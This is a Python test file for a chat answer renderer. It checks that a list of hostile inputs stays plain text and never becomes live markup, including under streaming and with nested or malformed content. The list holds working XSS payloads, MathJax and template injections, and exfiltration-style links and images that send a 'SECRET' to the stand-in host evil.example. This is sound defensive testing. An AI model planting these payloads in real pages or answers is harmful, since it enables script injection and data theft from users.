"""What may be written to do harm, by a model, a document or a person: it stays text, and none of it is slow."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.conversations.rendering.answer_renderer import StreamRenderer, render_answer, render_question
from apps.conversations.rendering.link_policy import LinkPolicy
from tests.conversations.rendering.conftest import ANSWER_ID, check_markup

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[click](//evil.example/?d=SECRET)",
    "[click](https://known.example.evil.example/)",
    "[click](https://known.example@evil.example/)",
    "[click](https://evil.example\\@known.example/)",
    "![a](https://evil.example/?d=SECRET)",
    "![](/answers/1?delete=1)",
    "![a][ref]\n\n[ref]: https://evil.example/?d=SECRET",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "<https://evil.example/?q=SECRET>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=SECRET",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    '[x](https://known.example/" onmouseover="alert(1))',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{</math><img src=x onerror=alert(1)>}$$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{evil}{x} \\cssId{y}{z} \\unicode{x3c}$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```mermaid\nclick A "javascript:alert(1)"\n```',
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    '|a|\n|:-:" onclick=alert(1)|\n|b|',
    "</span></p></div><script>alert(1)</script>",
    '<span class="pills" data-sentence="0"></span>',
    '<span class="sentence" data-sentence="0" onclick="alert(1)">',
    "<style>@import url(https://evil.example)</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=p></form>",
    "<base href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "{{7*7}} {% load x %} ${7*7} <%= 7*7 %>",
    "line\u2028separator\u2029and \u202eright to left",
    "\ue000\U000f0000\U00100000 \x00 \ufeff \ud7ff",
    "a\U000f0005 b <b>\U000f0001</b>",
]
AROUND = ["{}", "# {}", "- {}\n- {}", "> {}", "**{}**", "| {} |\n|---|\n| {} |", "word. {} And more."]
AROUND += ["[{}](https://known.example/)"]
SIGNS = [" ", "\n", "\n\n", "**", "`", "$", "[", "](", ")", "<", ">", '"', "- ", "|"]


def answer(text: str) -> str:
    return render_answer(text, [], ANSWER_ID, LinkPolicy(hosts={"known.example"}))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_never_becomes_markup(text: str) -> None:
    for around in AROUND:
        check_markup(answer(around.replace("{}", text)))
    check_markup(render_question(text))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, *SIGNS]), max_size=8))
def test_mixed_hostile_texts_never_become_markup(parts: list[str]) -> None:
    text = "".join(parts)
    check_markup(answer(text))
    renderer = StreamRenderer(LinkPolicy(hosts={"known.example"}))
    for start in range(0, len(text), 7):
        renderer.feed(text[start : start + 7])
        check_markup("".join(renderer.blocks))


@pytest.mark.shared
def test_naughty_strings_are_shown_as_text(shared: Path) -> None:
    for text in json.loads((shared / "data" / "naughty_strings" / "blns.json").read_text()):
        check_markup(answer(text))
        check_markup(render_question(text))


def test_a_picture_never_loads_and_shows_its_words() -> None:
    assert "a cat" in answer("![a cat](https://known.example/x.png)")
    assert "x.png" not in answer("![a cat](https://known.example/x.png)")


def test_deep_nesting_is_shown_flat() -> None:
    assert "deep" in answer("> " * 40_000 + "deep")
    assert "deep" in answer("- " * 40_000 + "deep")
    assert "deep" in answer("$" + "{" * 40_000 + "deep" + "}" * 100_000 + "$")
